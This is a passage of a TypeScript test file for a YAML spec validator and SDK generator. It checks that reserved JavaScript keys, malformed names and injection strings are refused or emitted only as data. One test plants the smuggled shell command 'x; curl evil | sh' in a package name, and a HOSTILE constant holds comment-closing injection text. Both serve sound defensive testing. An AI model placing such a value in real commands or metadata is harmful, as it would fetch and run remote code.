        errorsOf(broken((y) => y.replace('call: widgets.serve_widgets', 'call: widgets.serve_gadgets'), 'tasks.yaml')),
      ).toEqual(['tasks.yaml:6 : widgets.serve_gadgets is not an operation']);
    });
  });

  describe('locators.yaml', () => {
    const locators = (edit: (yaml: string) => string) => errorsOf(broken(edit, 'locators.yaml'));

    it('names the line of a bad dimension type, an unknown key, a hidden dimension without source and anyCase on no enum', () => {
      expect(
        locators((y) =>
          y
            .replace('count: { type: integer }', 'count: { type: float }')
            .replace('name: { type: string }', 'name: { type: string, repeats: true }')
            .replace('hidden: true, source: WidgetFinder.java', 'hidden: true')
            .replace('broken: { type: boolean }', 'broken: { type: boolean, anyCase: true }'),
        ),
      ).toEqual([
        'locators.yaml:23 : kind Widget: dimension name: unknown key "repeats" (did you mean repeat?)',
        'locators.yaml:24 : kind Widget: dimension count: type float is not string, integer, boolean, date, an enum or a kind',
        'locators.yaml:25 : kind Widget: dimension broken: anyCase is for an enum, and boolean is not one',
        'locators.yaml:30 : kind Widget: hidden dimension secret needs its source',
      ]);
    });

    it('requires a kind for every *Locator path parameter and every locator query input', () => {
      const errors = locators((y) =>
        y
          .replace('  path:\n    widgetLocator: Widget\n', '  path: {}\n')
          .replace('widgets.serve_widgets: { locator: Widget }', 'widgets.serve_widgets: {}'),
      );
      expect(errors).toContain(
        'areas/widgets.yaml:7 widgets.serve_widgets: query input locator is a locator: give it a kind in locators.yaml inputs.operations',
      );
      expect(errors).toContain(
        'areas/widgets.yaml:22 widgets.set_widget_field: path parameter widgetLocator looks like a locator: give it a kind in locators.yaml',
      );
    });

    it('refuses mappings to unknown kinds, conditions, operations, inputs and non-string inputs', () => {
      const errors = locators((y) =>
        y
          .replace('widgetLocator: Widget', 'widgetLocator: Gadget')
          .replace(
            'widgets.serve_widgets: { locator: Widget }',
            'widgets.serve_widgets: { locator: Stamp }\n    widgets.nope: { locator: Widget }',
          ),
      );
      expect(errors).toEqual([
        'locators.yaml:33 : Gadget is not a kind (nor untyped)',
        'locators.yaml:35 : Stamp is a condition, not a locator an input can take',
      ]);
      expect(
        locators((y) =>
          y.replace(
            '{ locator: Widget }',
            '{ locator: Widget, include_all: Widget, colour: Widget }\n    widgets.nope: { locator: Widget }',
          ),
        ),
      ).toEqual([
        'locators.yaml:35 widgets.serve_widgets: query input include_all is a boolean, not a string',
        'locators.yaml:35 widgets.serve_widgets: widgets.serve_widgets has no input colour',
        'locators.yaml:36 : widgets.nope is not an operation',
      ]);
    });
  });

  describe('names the generator cannot emit are refused, saying which and where (issue 20)', () => {
    const areas = (edit: (yaml: string) => string) => errorsOf(broken(edit));

    it('a path parameter named __proto__ (or any key every object inherits)', () => {
      expect(
        areas((y) =>
          y
            .replace(
              'path: /app/rest/widgets/{widgetLocator}\n    pathParams: [widgetLocator]',
              'path: /app/rest/widgets/{__proto__}\n    pathParams: [__proto__]',
            )
            .replace(
              'icon{suffix}\n    pathParams: [widgetLocator, suffix]',
              'icon{toString}\n    pathParams: [widgetLocator, toString]',
            )
            .replace('      suffix: "The image format', '      toString: "The image format'),
        ),
      ).toEqual([
        'areas/widgets.yaml:34 widgets.delete: path parameter "__proto__" is a key every JavaScript object inherits',
        'areas/widgets.yaml:62 widgets.serve_icon: path parameter "toString" is a key every JavaScript object inherits',
      ]);
    });

    it('operation and query names whose TypeScript name an object inherits, wire names with no letter or digit', () => {
      expect(
        areas((y) =>
          y
            .replace('name: delete', 'name: constructor')
            .replace('{ name: include_all, wire: includeAll', '{ name: value_of, wire: includeAll')
            .replace('{ name: count, wire: count,', '{ name: count, wire: "!!!",'),
        ),
      ).toEqual([
        'areas/widgets.yaml:7 widgets.serve_widgets: query input value_of: its argument "valueOf" is a key every JavaScript object inherits',
        'areas/widgets.yaml:7 widgets.serve_widgets: query input count: wire name "!!!" has no letter or digit (A-Z, a-z, 0-9)',
        'areas/widgets.yaml:34 widgets.constructor: its function name "constructor" is a key every JavaScript object inherits',
      ]);
    });

    it('a path, a base or a file-tree prefix that is not a URL path, and a placeholder in a prefix', () => {
      expect(
        areas((y) =>
          y.replace('path: /app/rest/widgets/{widgetLocator}\n', 'path: "/app/rest/widgets/{widgetLocator} `x` | y"\n'),
        ),
      ).toEqual([
        "areas/widgets.yaml:34 widgets.delete: path must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
      ]);
      expect(areas((y) => y.replace('base: /app/rest/widgets', 'base: "/app/rest/widgets\\n"'))).toContain(
        "areas/widgets.yaml:5 : base must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
      );
      expect(
        errorsOf(broken((y) => y.replace('{widgetLocator}/files', '{constructor}/files{!}'), 'file-tree.yaml')),
      ).toEqual([
        "file-tree.yaml:13 prefix /app/rest/widgets/{constructor}/files{!}: prefix must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
        'file-tree.yaml:13 prefix /app/rest/widgets/{constructor}/files{!}: path parameter "constructor" is a key every JavaScript object inherits',
      ]);
    });

    it('an area name that is a reserved word (it names a namespace import)', () => {
      expect(areas((y) => y.replace('area: widgets', 'area: delete'))).toContain(
        'areas/widgets.yaml:3 : area "delete" is a reserved word of JavaScript',
      );
    });

    it('model properties, wire names and enum values that close a comment, break a line or have no letter', () => {
      const errors = errorsOf(
        broken(
          (y) =>
            y
              .replace('{ name: id, type: int64', '{ name: constructor, type: int64')
              .replace('enum: [new, used]', 'enum: [new, "a */ b"]')
              .replace('{ name: vcs-root-id,', '{ name: "two\\nlines",')
              .replace('wire: widgets', 'wire: "---"'),
          'models/widgets.yaml',
        ),
      );
      expect(errors).toEqual([
        'models/widgets.yaml:9 model Widget: property constructor: name "constructor" is a key every JavaScript object inherits',
        'models/widgets.yaml:10 model Widget: property state: enum value "a */ b" would close a comment (it holds */)',
        'models/widgets.yaml:12 model Widget: property two\nlines: name "two\\nlines" holds a line break or a control character',
        'models/widgets.yaml:17 model Widgets: wire name "---" has no letter or digit (A-Z, a-z, 0-9)',
      ]);
    });

    it('locator dimensions, kinds and enum values, and a __proto__ key that zod would drop unseen', () => {
      const locators = (edit: (yaml: string) => string) => errorsOf(broken(edit, 'locators.yaml'));
      expect(
        locators((y) =>
          y
            .replace('      name: { type: string }\n', '      constructor: { type: string }\n')
            .replace('[new, used, any]', '[new, used, "a */"]')
            .replace(/Shelf/g, 'ValueOf'),
        ),
      ).toEqual([
        'locators.yaml:4 : enum WidgetState: value "a */" would close a comment (it holds */)',
        'locators.yaml:6 : kind ValueOf: its name in `locator` "valueOf" is a key every JavaScript object inherits',
        'locators.yaml:23 : kind Widget: dimension "constructor" is a key every JavaScript object inherits',
      ]);
      expect(
        locators((y) =>
          y.replace(
            '      name: { type: string }\n',
            '      __proto__: { type: string }\n      name: { type: string }\n',
          ),
        ),
      ).toEqual(['locators.yaml:23 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything']);
    });

    it('reads no spec name as a key an object inherits', () => {
      const { spec } = validateSpec(loadSpec(tiny.spec, tiny.root));
      const inputs = spec!.locators.value.inputs;
      for (const name of ['constructor', 'toString', '__proto__']) {
        expect(locatorKindOf(inputs, 'widgets', 'serve_widgets', name, true, false), name).toBeUndefined();
      }
    });

    it('a package name that is not an npm package name (it goes into shell commands and imports)', async () => {
      const e = await generate(
        broken((y) => y.replace('name: tiny-sdk', 'name: x; curl evil | sh'), 'package.yaml'),
      ).catch((x: unknown) => x);
      expect(e).toBeInstanceOf(InvalidSpecError);
      expect((e as InvalidSpecError).message).toContain('package.yaml:2: name must be an npm package name');
    });
  });
});

/** A copy of the tiny spec with each file's YAML edited through yaml's Document API (it quotes what it must). */
function tinyWith(edits: Record<string, (doc: ReturnType<typeof parseDocument>) => void>): Paths {
  const dir = mkdtempSync(join(tmpdir(), 'tc-spec-'));
  cpSync(tiny.spec, dir, { recursive: true });
  for (const [file, edit] of Object.entries(edits)) {
    const doc = parseDocument(readFileSync(join(dir, file), 'utf8'));
    edit(doc);
    writeFileSync(join(dir, file), String(doc));
  }
  return { ...tiny, root: dir, spec: dir };
}

/** What a comment-closing, tag-starting, cell-splitting, quote-breaking spec string looks like. */
const HOSTILE = 'q */ INJECTED: typeof globalThis; /* @deprecated {@link x} | cell\nnext \' " ` ${x} \u2028 end';
/** The same on one line, for the words that must be one (an input's description, a prefix's `tree`, a task). */
const HOSTILE_LINE = HOSTILE.replace('\n', ' ');
/** The same as a summary the schema takes (a capital first, no `{placeholder}`). */
const HOSTILE_SUMMARY = `Q${HOSTILE_LINE.slice(1).replace('${x}', '$x')}`;

/** The top-level statements of a TypeScript file (kind and name), its syntax errors, and what must not be in it. */
function readTs(text: string) {
  const file = ts.createSourceFile('x.ts', text, ts.ScriptTarget.Latest, true);
  const syntax = ts.transpileModule(text, { reportDiagnostics: true }).diagnostics ?? [];
  const identifiers: string[] = [];
  const tags: string[] = [];
  const visit = (node: ts.Node) => {
    if (ts.isIdentifier(node)) identifiers.push(node.text);
    for (const tag of ts.getJSDocTags(node)) tags.push(tag.tagName.text);
    ts.forEachChild(node, visit);
  };
  visit(file);
  const statements = file.statements.map(
    (s) => `${ts.SyntaxKind[s.kind]} ${(s as { name?: ts.Node }).name?.getText() ?? ''}`,
  );
  return {
    statements,
    syntax: syntax.map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')),
    identifiers,
    tags,
  };
}

describe('spec text lands in generated files as data (issue 20)', () => {
  const hostilePaths = tinyWith({
    'areas/widgets.yaml': (doc) => {
      doc.set('title', HOSTILE);
      doc.setIn(['operations', 0, 'note'], HOSTILE);
      doc.setIn(['operations', 0, 'summary'], HOSTILE_SUMMARY);
      doc.setIn(['operations', 0, 'description'], HOSTILE);
      doc.setIn(['operations', 1, 'inputs', 'field'], HOSTILE_LINE);
      doc.setIn(['operations', 0, 'query', 0, 'note'], HOSTILE);
      doc.setIn(['operations', 0, 'query', 2, 'default'], HOSTILE);
      doc.setIn(['operations', 1, 'returns', 'seed'], HOSTILE);
      // URL path characters are all it may hold, `*/` among them.
      doc.setIn(['operations', 2, 'path'], "/app/rest/widgets/{widgetLocator}*/INJECTED;(globalThis);'/*");
    },
    // Short enough that the stamped summaries stay summaries (at most 99 characters).
    'file-tree.yaml': (doc) => doc.setIn(['prefixes', 0, 'tree'], HOSTILE_LINE.replace('typeof globalThis; ', '')),
    'tasks.yaml': (doc) => {
      doc.setIn(['groups', 0, 'title'], HOSTILE_LINE);
      doc.setIn(['groups', 0, 'tasks', 0, 'want'], HOSTILE_LINE);
    },
    'models/widgets.yaml': (doc) => {
      doc.setIn(['models', 0, 'doc'], HOSTILE);
      doc.setIn(['models', 0, 'note'], HOSTILE);
      doc.setIn(['models', 0, 'properties', 0, 'doc'], HOSTILE);
      doc.setIn(['models', 0, 'properties', 6, 'note'], HOSTILE);
    },
    'locators.yaml': (doc) => {
      doc.setIn(['kinds', 'Widget', 'source'], HOSTILE);
      doc.setIn(['kinds', 'Stamp', 'source'], HOSTILE);
      doc.setIn(['kinds', 'Widget', 'singleValue', 'means'], HOSTILE);
      doc.setIn(['kinds', 'Widget', 'dimensions', 'secret', 'source'], HOSTILE);
    },
    'examples.yaml': (doc) => doc.setIn(['operations', 'widgets.set_widget_field'], HOSTILE),
    'package.yaml': (doc) => doc.set('description', HOSTILE),
  });
  // Awaited in each test, so that a generation that fails fails the tests (and not their collection).
  const generated = tinyRun.then(
    async (clean) => [clean, await generate(hostilePaths, { cache: tinyCache, pool: sharedPool })] as const,
  );

  it('emits TypeScript with no injected statement, tag or syntax error', async () => {
    const [clean, hostile] = await generated;
    expect([...hostile.keys()].sort()).toEqual([...clean.keys()].sort());
    // The TypeScript files the hostile text reached.
    const reached = [...clean.keys()].filter((p) => p.endsWith('.ts') && hostile.get(p) !== clean.get(p));
    expect(reached.sort()).toEqual([
      'src/areas/widgets.ts',
      'src/client.ts',
      'src/locators.ts',
      'src/models.ts',
      'src/operations.ts',
    ]);
    for (const path of reached) {
      expect(hostile.get(path), path).toContain('INJECTED');
      const [before, after] = [readTs(clean.get(path)!), readTs(hostile.get(path)!)];
      expect(after.syntax, path).toEqual([]);
      expect(after.statements, path).toEqual(before.statements);
      expect(after.identifiers, path).not.toContain('INJECTED');
      expect(after.tags.sort(), path).toEqual(before.tags.sort());
    }
  });

  it('keeps every markdown table row one row of the same cells', async () => {
    const [clean, hostile] = await generated;
    const rows = (text: string) =>
      text
        .split('\n')
        .filter((line) => line.startsWith('|'))
        .map((line) => line.split(/(?<!\\)\|/).length);
    for (const path of [...clean.keys()].filter((p) => p.endsWith('.md'))) {
      expect(rows(hostile.get(path)!), path).toEqual(rows(clean.get(path)!));
    }
    // The title is prose: no emphasis, link or HTML either.
    expect(hostile.get('docs/widgets.md')!.split('\n')[0]).toBe(
      '# q \\*/ INJECTED: typeof globalThis; /\\* @deprecated {@link x} \\| cell next \' " \\` ${x} end (`client.widgets`)',
    );
  });

  it('writes package.json whose description is the spec text exactly', async () => {
    const [clean, hostile] = await generated;
    const pkg = JSON.parse(hostile.get('package.json')!) as { description: string };
    expect(pkg.description).toBe(HOSTILE);
    expect(Object.keys(pkg)).toEqual(Object.keys(JSON.parse(clean.get('package.json')!) as object));
  });
});

describe('the import graphs of generator/, the hand-written sources and scripts/', () => {
  /** The modules under `dirs` that dpdm read, and the cycles it finds among them, type-only imports included. */
  const cycles = async (dir: string, dirs = ['.']) => {
    const tree = await parseDependencyTree(
      dirs.map((d) => `${d}/**/*.ts`),
      { cwd: dir, context: dir, tsconfig: join(root, 'tsconfig.json'), transform: false, skipDynamicImports: false },
    );
    return { modules: Object.keys(tree).filter((f) => !f.includes('node_modules')), cycles: parseCircular(tree) };
  };
  const DIRS = [
    ['generator', 'validate.ts'],
    ['generated/src', 'cli/cli.ts'],
    ['generated-mcp/src', 'server.ts'],
    ['scripts', 'bench/lib.ts'],
  ] as const;
  // One graph of the four (each imports from the others, generated/src most): every module is read once.
  const graph = cycles(
    root,
    DIRS.map(([dir]) => dir),
  );

  it.each(DIRS)('%s has no import cycle', async (dir, known) => {
    const { modules, cycles: found } = await graph;
    expect(modules).toContain(`${dir}/${known}`);
    expect(found.filter((cycle) => cycle.some((m) => m.startsWith(`${dir}/`)))).toEqual([]);
  });

  it('would show one: two modules that import each other are a cycle', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tc-cycle-'));
    writeFileSync(join(dir, 'a.ts'), "import { b } from './b.js';\nexport const a = () => b;\n");
    writeFileSync(join(dir, 'b.ts'), "import type { a } from './a.js';\nexport const b: typeof a | null = null;\n");
    expect((await cycles(dir)).cycles.map((c) => c.sort())).toEqual([['a.ts', 'b.ts']]);
  });
});

describe('spec/README.md', () => {
  it("has the schema's table, made from generator/schema.ts (paste schemaTable()'s text between the markers when this fails)", () => {
    const readme = readFileSync(join(root, 'spec/README.md'), 'utf8');
    const section = /<!-- schema -->\n([^]*?)<!-- \/schema -->/.exec(readme)?.[1];
    expect(section).toBe(schemaTable());
  });
});
